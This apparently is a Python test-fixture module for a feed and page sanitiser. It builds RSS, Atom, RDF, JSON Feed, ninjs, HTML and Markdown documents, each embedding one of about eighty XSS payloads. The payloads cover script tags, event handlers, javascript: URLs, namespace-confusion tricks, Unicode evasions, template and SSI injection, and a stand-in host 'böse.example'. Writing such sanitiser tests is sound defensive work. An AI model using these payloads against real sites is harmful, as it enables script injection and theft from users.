# ruff: noqa: E501  # a case is a row, however long
"""Active content, in markup that an entry or a page may hold: none of it is in anything that we publish.

Each stands between two words, so that it can be told whether its neighbourhood was kept.
"""

from html import escape

from hostile import make
from hostile.case import Kind

MARKUP = (
    # scripts
    "<script>NIEMALS()</script>",
    "<SCRIPT SRC=//böse.example/x.js></SCRIPT>",
    "<script\x0b>NIEMALS()</script>",
    "<scr<script>ipt>NIEMALS()</scr</script>ipt>",
    "<script/x>NIEMALS()</script >",
    "<<script>NIEMALS();//<</script>",
    '<script type="module">NIEMALS()</script>',
    "</p></div></article></main></body></html><script>NIEMALS()</script>",
    "]]><script>NIEMALS()</script>",
    "]]&gt;&lt;/description&gt;&lt;script&gt;NIEMALS()&lt;/script&gt;",
    "--><script>NIEMALS()</script>",
    "<!--><script>NIEMALS()</script>-->",
    "<!--[if gte IE 4]><script>NIEMALS()</script><![endif]-->",
    "<!-- --!><script>NIEMALS()</script> -->",
    "<?xml version='1.0'?><?php NIEMALS(); ?><script>NIEMALS()</script>",
    "&lt;script&gt;NIEMALS()&lt;/script&gt;",
    "&amp;lt;script&amp;gt;NIEMALS()&amp;lt;/script&amp;gt;",
    # handlers
    "<svg onload=NIEMALS()>",
    "<svg/onload=NIEMALS()//",
    "<img src=x onerror=NIEMALS()>",
    "<img src=x:x onerror\n=\nNIEMALS()>",
    '<img src="https://www.talland.example/b.jpg" onload="NIEMALS()" alt="b">',
    '<img alt="`><script>NIEMALS()</script>" src="https://www.talland.example/b.jpg">',
    "<img alt='\"><svg onload=NIEMALS()>' src='https://www.talland.example/b.jpg'>",
    "<p onclick=NIEMALS() onmouseover='NIEMALS()' ONFOCUS=NIEMALS() tabindex=1 autofocus>x</p>",
    "<a href='https://www.talland.example/' onclick='NIEMALS()' ping='https://böse.example/'>x</a>",
    "<details open ontoggle=NIEMALS()>x</details>",
    "<video src=x onerror=NIEMALS()><source src=x onerror=NIEMALS()></video>",
    "<audio src=x onloadstart=NIEMALS() autoplay></audio>",
    "<marquee onstart=NIEMALS()>x</marquee>",
    "<body onload=NIEMALS()>",
    "<p/onclick=NIEMALS()/x>x</p>",
    "<p \x0conclick=NIEMALS()>x</p>",
    "<table background=javascript:NIEMALS()><td background=javascript:NIEMALS()>x</table>",
    # styles
    "<style>@import 'javascript:NIEMALS()'; body{background:url(javascript:NIEMALS())}</style>",
    "<p style='background:url(javascript:NIEMALS());width:expression(NIEMALS())'>x</p>",
    "<p style='position:fixed;inset:0;z-index:9999;background:#fff'>x</p>",
    "<link rel=stylesheet href='javascript:NIEMALS()'>",
    # what leads the page elsewhere, or asks for words
    "<base href='javascript:NIEMALS()//'><base href='https://böse.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:NIEMALS()'>",
    "<meta http-equiv=Content-Security-Policy content='script-src *'>",
    "<meta name=referrer content=unsafe-url>",
    "<form action='javascript:NIEMALS()'><input name=passwort><button formaction='javascript:NIEMALS()'>x</button></form>",
    "<form id=f></form><button form=f formaction='https://böse.example/'>x</button>",
    "<input type=image src=x onerror=NIEMALS()><textarea>x</textarea><select><option>x</select>",
    "<iframe src='javascript:NIEMALS()'></iframe><iframe srcdoc='<script>NIEMALS()</script>'></iframe>",
    "<frameset><frame src='javascript:NIEMALS()'></frameset>",
    "<object data='data:text/html,<script>NIEMALS()</script>'></object>",
    "<embed src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9Ik5JRU1BTFMoKSI+'>",
    "<applet code=NIEMALS></applet><portal src='https://böse.example/'></portal>",
    "<map name=m><area shape=default href='javascript:NIEMALS()'></map><img usemap=#m src=x>",
    "<isindex action=javascript:NIEMALS() type=submit>",
    # other namespaces, and markup that changes its meaning when it is read again
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=NIEMALS()&gt;'>",
    "<svg><style><img src=x onerror=NIEMALS()></style></svg>",
    "<svg><p><style><a title='</style><img src onerror=NIEMALS()>'>x</a></style></p></svg>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:NIEMALS() /><a id=x><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=NIEMALS()>#x'/></svg>",
    "<svg><foreignObject><iframe src='javascript:NIEMALS()'></iframe></foreignObject></svg>",
    "<svg><a xlink:href='javascript:NIEMALS()'><text>x</text></a></svg>",
    "<math href='javascript:NIEMALS()'>x</math><math><maction actiontype=statusline#javascript:NIEMALS()>x</maction></math>",
    "<math><annotation-xml encoding='text/html'><script>NIEMALS()</script></annotation-xml></math>",
    "<noscript><p title='</noscript><img src=x onerror=NIEMALS()>'></noscript>",
    "<template><script>NIEMALS()</script></template><template shadowrootmode=open><script>NIEMALS()</script></template>",
    "<textarea><script>NIEMALS()</script></textarea><title><img src=x onerror=NIEMALS()></title>",
    "<xmp><p title='</xmp><img src=x onerror=NIEMALS()>'></xmp>",
    "<noembed><img title='</noembed><img src onerror=NIEMALS()>'></noembed><noframes><p title='</noframes><svg onload=NIEMALS()>'></noframes>",
    "<plaintext><script>NIEMALS()</script>",
    "<select><style></select><img src=x onerror=NIEMALS()></style>",
    "<listing>&lt;img src=x onerror=NIEMALS()&gt;</listing>",
    "<p id=content name=cookie class=skip slot=x is=x-y>x</p><a name=forms id=location>x</a>",
    "<x-element onclick=NIEMALS()>x</x-element><custom:tag onclick=NIEMALS()>x</custom:tag>",
    # templates, and what other programs would run
    "{{ self.__init__.__globals__ }}{% include '/etc/passwd' %}${NIEMALS()}<%= NIEMALS() %>#{NIEMALS()}",
    "{{constructor.constructor('NIEMALS()')()}}<p ng-app v-on:click=NIEMALS() x-on:click=NIEMALS() @click=NIEMALS()>x</p>",
    "<!--#exec cmd='id' --><esi:include src='https://böse.example/'/>",
    "<img src='https://www.talland.example/b.jpg' srcset='javascript:NIEMALS() 1x, data:image/svg+xml,x 2x'>",
    "<picture><source srcset='javascript:NIEMALS()' onerror=NIEMALS()><img src=x></picture>",
    "<p dir='rtl\" onclick=\"NIEMALS()' lang='de\" onclick=\"NIEMALS()'>x</p>",
    "<time datetime='\"><svg onload=NIEMALS()>'>x</time><td colspan='\"><svg onload=NIEMALS()>'>x</td>",
    "\ufeff<\u200bscript>NIEMALS()</script><\u00adscript>NIEMALS()</script><scr\ufeffipt>NIEMALS()</scr\ufeffipt>",
    "＜script＞NIEMALS()＜/script＞\u2028<script\u2028>NIEMALS()</script>",
    "<\u017fcript>NIEMALS()</\u017fcript><\u212abd onclick=NIEMALS()>x</\u212abd>",
)  # fmt: skip

KINDS: tuple[Kind, ...] = ("rss", "atom", "rdf", "json", "ninjs", "html", "markdown")


def before(n: int) -> str:
    return f"Vorwort{n}ä"


def _between(n: int) -> str:
    return f"<p>{make.TEXT[1]} {before(n)}</p>{MARKUP[n]}<p>{make.TEXT[2]} Meldung {n}.</p>"


def feed(kind: Kind, *, titles: bool) -> bytes:
    """All of it in one feed, an entry for each: in its text, its teaser and its author; in its title and kicker too."""
    every = range(len(MARKUP))
    _headed = _marked if titles else make.title
    match kind:
        case "rss":
            return make.rss(*(make.item(n, title=_headed(n), body=_between(n), extra=_more(n, titles)) for n in every))
        case "rdf":
            return make.rdf(*(make.item(n, title=_headed(n), body=_between(n), extra=_more(n, titles)) for n in every))
        case "atom":
            return make.atom(
                *(make.entry(n, title=_headed(n), body=_between(n), extra=_of_atom(n, titles)) for n in every)
            )
        case "json":
            return make.jsonfeed(
                *(
                    make.entry_of_json(
                        n,
                        title=_headed(n),
                        content_html=_between(n),
                        summary=MARKUP[n],
                        authors=[{"name": MARKUP[n]}],
                        tags=[MARKUP[n] if titles else "Bau"],
                        language=MARKUP[n],
                    )
                    for n in every
                )
            )
    pictures = [{"a": {"href": f"{make.HOST}/b{n}.jpg", "mimetype": MARKUP[n], "alttext": MARKUP[n]}} for n in every]
    return make.ninjs(
        *(
            make.news(n, headline=_headed(n), body_html=_between(n), byline=MARKUP[n], renditions=pictures[n])
            for n in every
        )
    )


def page(kind: Kind, n: int) -> bytes:
    """One of it in a page or a file of its own: in its text, its title and beside it."""
    if kind == "markdown":
        body = f"{make.TEXT[1]} {before(n)}\n\n{MARKUP[n]}\n\n{make.TEXT[2]}"
        said = MARKUP[n].replace("\\", "\\\\").replace('"', '\\"').replace("\n", " ")
        front = f'teaser: "{said}"\nauthor: "{said}"\n'
        return make.markdown(n, front=front, body=body)
    head = f'<meta name="description" content="{escape(MARKUP[n])}"><meta name="author" content="{escape(MARKUP[n])}">'
    return make.html(n, title=_marked(n), head=head, body=make.PARAGRAPHS + _between(n))


def _marked(n: int) -> str:
    return f"{make.title(n)} {MARKUP[n]}"


def _more(n: int, titles: bool) -> str:
    said = escape(MARKUP[n].replace("\x0b", "").replace("\x0c", ""))
    return (
        f"<author>{said}</author><category>{said if titles else 'Bau'}</category><dc:creator>{said}</dc:creator>"
        f'<media:content url="{make.HOST}/b{n}.jpg" medium="image"><media:title>{said}</media:title>'
        f"<media:credit>{said}</media:credit><media:description>{said}</media:description></media:content>"
    )


def _of_atom(n: int, titles: bool) -> str:
    said = escape(MARKUP[n].replace("\x0b", "").replace("\x0c", ""))
    return (
        f'<summary type="html">{said}</summary><author><name>{said}</name><uri>javascript:NIEMALS()</uri></author>'
        f'<category term="{said if titles else "Bau"}"/><rights type="html">{said}</rights>'
    )
